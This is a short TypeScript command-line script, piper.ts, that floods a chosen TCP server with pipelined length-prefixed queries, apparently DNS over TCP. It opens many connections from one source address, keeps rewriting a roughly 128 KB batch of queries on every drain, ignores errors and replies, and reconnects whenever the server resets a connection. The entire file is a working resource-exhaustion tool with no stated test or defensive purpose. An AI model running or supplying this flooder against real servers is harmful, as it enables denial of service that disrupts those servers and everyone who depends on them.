// A client that sends more queries than it gets turns for, on many connections from one address, and opens them anew when
// they are reset: piper.ts FROM TO PORT CONNECTIONS QUERY (hex).
import { connect } from 'node:net'

const [from = '', to = '', port = '', connections = '', query = ''] = process.argv.slice(2)
const octets = Buffer.from(query, 'hex')
const one = Buffer.concat([Buffer.from([octets.length >> 8, octets.length & 0xff]), octets])
const many = Buffer.concat(Array.from({ length: Math.floor(131_072 / one.length) }, () => one))

function open(): void {
  const socket = connect({ host: to, port: Number(port), localAddress: from })
  const write = (): void => void socket.write(many)
  socket
    .on('error', () => undefined)
    .on('connect', write)
    .on('drain', write)
  socket.on('data', () => undefined).on('close', () => setTimeout(open, 100))
}

for (let i = 0; i < Number(connections); i++) setTimeout(open, i)
console.log('pipes')
